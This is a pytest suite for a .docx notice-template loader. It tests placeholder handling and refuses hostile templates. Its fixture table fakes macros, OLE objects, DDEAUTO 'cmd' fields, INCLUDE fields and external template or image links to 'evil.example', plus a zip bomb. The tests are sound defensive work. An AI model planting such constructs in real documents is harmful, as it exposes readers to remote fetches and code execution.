"""An office's own .docx: what it looks like stays, what it misspells is named, what would run or fetch is refused."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest

from model import Fault, NoticeKind
from report.notice import template as room
from report.notice.faults import mend_text
from report.notice.fill import fill
from report.notice.template import opened, template, write_template
from tests.report.notice.letters import YEAR, ZH, faults

MEND = NoticeKind.MEND
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def own(path: Path, *paragraphs: str, change: Callable[[Any], None] = lambda made: None) -> Path:
    made = docx.Document()
    for text in paragraphs or ("{{单位}}", "{{问题清单}}"):
        made.add_paragraph(text)
    change(made)
    made.save(str(path))
    return path


def fault_of(path: Path) -> Fault:
    with pytest.raises(Fault) as caught:
        template(MEND, path, ZH)
    assert ZH.has(caught.value.message_id) and caught.value.exit_code == 3
    return caught.value


def repacked(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    with zipfile.ZipFile(path) as parts:
        told = {name: parts.read(name) for name in parts.namelist()}
    change(told)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
        for name, content in told.items():
            parts.writestr(name, content)
    return path


def swapped(name: str, old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)

    return change


def test_what_was_written_out_comes_back(tmp_path: Path) -> None:
    write_template(MEND, tmp_path / "own.docx", ZH)
    content = template(MEND, tmp_path / "own.docx", ZH)
    assert content == template(MEND, None, ZH)


def test_looks_stay_and_a_placeholder_may_be_parted(tmp_path: Path) -> None:
    def change(made: Any) -> None:
        line = made.add_paragraph("致 ")
        for piece in ("｛", "{单", "位｝", "}！"):
            line.add_run(piece).bold = True
        made.add_paragraph("在 {{ 发文日期 }} 与 {{Organiser}}")
        made.sections[0].footer.paragraphs[0].text = "{{单位}} 页脚"
        made.add_table(1, 1).cell(0, 0).text = "{{问题数}} 项"

    path = own(tmp_path / "own.docx", "{{问题清单}}", change=change)
    made = opened(fill(opened(template(MEND, path, ZH)), mend_text(YEAR, faults("x"), ZH), ZH))
    line = next(one for one in made.paragraphs if one.text.startswith("致"))
    assert line.text == "致 临溪县水务局！" and [one.text for one in line.runs if one.bold and one.text] == [
        "临溪县水务局",
        "！",
    ]
    assert "在 2026年11月27日 与 临溪县人民政府办公室" in [one.text for one in made.paragraphs]
    assert made.sections[0].footer.paragraphs[0].text == "临溪县水务局 页脚"
    assert made.tables[-1].cell(0, 0).text == f"{len(faults().listed)} 项" and len(made.tables) == 2


def test_a_picture_stays_when_the_words_beside_it_have_nothing_to_say(tmp_path: Path) -> None:
    """An office's seal or letterhead may be anchored in a paragraph that holds a placeholder besides."""
    found = faults("x")._replace(doubts=0, unverified=0, disputed=0)

    def drawn(parts: dict[str, bytes]) -> None:
        parts[DOCUMENT] = parts[DOCUMENT].replace(b"{{\xe5\xbe\x85", b"</w:t><w:pict/><w:t>{{\xe5\xbe\x85")

    path = repacked(own(tmp_path / "own.docx", "{{单位}}", "{{待核实}}", "{{问题清单}}"), drawn)
    made = opened(fill(opened(template(MEND, path, ZH)), mend_text(YEAR, found, ZH), ZH))
    assert made.element.body.findall(f".//{{{W}}}pict") and "{{" not in "".join(
        one.text for one in made.paragraphs
    )


@pytest.mark.parametrize(
    ("paragraphs", "fault", "named"),
    [
        (("{{单位}}", "{{问题清单}}", "{{单位名}}"), "notice_placeholder", "{{单位名}}"),
        (
            ("{{单位}}", "{{问题清单}}", "{{逐月情况}}"),
            "notice_placeholder",
            "{{逐月情况}}",
        ),  # of another kind
        (("{{单位}}", "{{问题清单}}", "致 {{单位："), "notice_placeholder_open", "致 {{单位："),
        (("{{单位}}", "附：{{问题清单}}"), "notice_table_place", "{{问题清单}}"),
        (("{{单位}}", "{{问题清单}}", "{{list of faults}}"), "notice_table_twice", "{{list of faults}}"),
        (("{{单位}}",), "notice_placeholder_lacks", "问题清单"),
        (("致：", "{{问题清单}}"), "notice_placeholder_lacks", "单位"),
    ],
)
def test_what_is_misspelt_is_named(
    tmp_path: Path, paragraphs: tuple[str, ...], fault: str, named: str
) -> None:
    found = fault_of(own(tmp_path / "own.docx", *paragraphs))
    assert found.message_id == f"fault.{fault}" and named in found.params.values()


def test_a_table_has_its_place_in_the_text_alone(tmp_path: Path) -> None:
    def change(made: Any) -> None:
        made.add_table(1, 1).cell(0, 0).text = "{{问题清单}}"

    assert (
        fault_of(own(tmp_path / "own.docx", "{{单位}}", change=change)).message_id
        == "fault.notice_table_place"
    )


RELATION = b'<Relationship Id="rId99" Type="http://x/%s" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
PICTURE = RELATION % b"relationships/image"
PLACE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEAD = b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
FIELD = b"<w:p><w:r><w:instrText>%s</w:instrText></w:r></w:p></w:body>"
DOCUMENT, RELS = "word/document.xml", "word/_rels/document.xml.rels"
HOSTILE: dict[str, tuple[Callable[[dict[str, bytes]], Any], str]] = {
    "macros": (lambda parts: parts.update({"word/vbaProject.bin": b"x"}), "runs"),
    "macro type": (
        swapped("[Content_Types].xml", b"wordprocessingml.document.main", b"macroEnabled.main"),
        "runs",
    ),
    "embedded": (lambda parts: parts.update({"word/embeddings/oleObject1.bin": b"x"}), "runs"),
    "its own template": (
        swapped(RELS, b"</Relationships>", RELATION % b"relationships/attachedTemplate"),
        "fetches",
    ),
    "picture elsewhere": (swapped(RELS, b"</Relationships>", RELATION % b"relationships/image"), "fetches"),
    "dde": (swapped(DOCUMENT, b"</w:body>", FIELD % b"DDEAUTO c:\\\\x cmd"), "runs"),
    "dde in entities": (swapped(DOCUMENT, b"</w:body>", FIELD % b"&#68;DE x"), "runs"),
    "simple field": (
        swapped(DOCUMENT, b"</w:body>", b'<w:p><w:fldSimple w:instr=" INCLUDETEXT x"/></w:p></w:body>'),
        "runs",
    ),
    "entities": (swapped(DOCUMENT, b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document'), "no_docx"),
    "hidden in a comment": (swapped(DOCUMENT, b"</w:body>", FIELD % b"DD<!-- -->E x"), "no_docx"),
    "another encoding": (swapped(DOCUMENT, b"UTF-8", b"UTF-16"), "no_docx"),
    "elsewhere in entities": (
        swapped(RELS, b"</Relationships>", PICTURE.replace(b"External", b"&#69;xternal")),
        "fetches",
    ),
    "an angle in a name": (swapped(RELS, b"</Relationships>", PICTURE.replace(b"rId99", b"a>b")), "fetches"),
    "said to be a link": (
        swapped(RELS, b"</Relationships>", PICTURE.replace(b"x.dotm", b"relationships/hyperlink'")),
        "fetches",
    ),
    "a part of another name": (
        lambda parts: (
            parts.update({"word/head.dat": HEAD}),
            swapped(
                "[Content_Types].xml",
                b"</Types>",
                b'<Override PartName="/word/head.dat" ContentType="x/header+xml"/></Types>',
            )(parts),
        ),
        "no_docx",
    ),
    "a file brought in": (
        swapped(
            RELS,
            b"</Relationships>",
            b'<Relationship Id="x" Type="%saFChunk" Target="a.htm"/></Relationships>' % PLACE,
        ),
        "runs",
    ),
    "an object under another name": (
        swapped(
            RELS,
            b"</Relationships>",
            b'<Relationship Id="x" Type="%soleObject" Target="a.bin"/></Relationships>' % PLACE,
        ),
        "runs",
    ),
    "an old include": (swapped(DOCUMENT, b"</w:body>", FIELD % b"INCLUDE x"), "runs"),
    "an old picture elsewhere": (
        swapped(
            DOCUMENT,
            b"</w:body>",
            b'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x/"/></w:pict></w:r></w:p></w:body>',
        ),
        "fetches",
    ),
    "not even XML": (swapped(DOCUMENT, b"</w:body>", b"</w:bod>"), "no_docx"),
    "no document": (lambda parts: parts.pop(DOCUMENT), "no_docx"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_runs_or_fetches_is_refused(tmp_path: Path, name: str) -> None:
    change, fault = HOSTILE[name]
    assert (
        fault_of(repacked(own(tmp_path / "own.docx"), change)).message_id == f"fault.notice_template_{fault}"
    )


def test_a_link_and_a_page_number_are_no_harm(tmp_path: Path) -> None:
    path = repacked(
        own(tmp_path / "own.docx"), swapped(RELS, b"</Relationships>", RELATION % b"relationships/hyperlink")
    )
    repacked(path, swapped(DOCUMENT, b"</w:body>", FIELD % b" PAGE "))
    repacked(path, swapped(DOCUMENT, b"</w:body>", FIELD % b" HYPERLINK \\\\l x"))
    assert template(MEND, path, ZH)


def test_what_is_no_docx_or_too_large_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for content in (b"", b"PK\x03\x04 torn", b"\xd0\xcf\x11\xe0 an old .doc", io.BytesIO(b"{\\rtf1}").read()):
        (tmp_path / "x.docx").write_bytes(content)
        assert fault_of(tmp_path / "x.docx").message_id == "fault.notice_template_no_docx"
    assert fault_of(tmp_path / "none.docx").message_id == "fault.notice_template_unreadable"
    monkeypatch.setattr(room, "MAX_UNPACKED", 1_000_000)
    bomb = repacked(
        own(tmp_path / "bomb.docx"),
        lambda parts: parts.update({"word/media/a.png": bytes(room.MAX_UNPACKED)}),
    )
    assert (
        bomb.stat().st_size < room.MAX_UNPACKED and fault_of(bomb).message_id == "fault.notice_template_large"
    )
    many = repacked(
        own(tmp_path / "many.docx"), lambda parts: parts.update({f"word/{n}.bin": b"" for n in range(600)})
    )
    assert fault_of(many).message_id == "fault.notice_template_large"
    monkeypatch.setattr(room, "MAX_BYTES", 1000)
    assert fault_of(own(tmp_path / "own.docx")).message_id == "fault.notice_template_large"
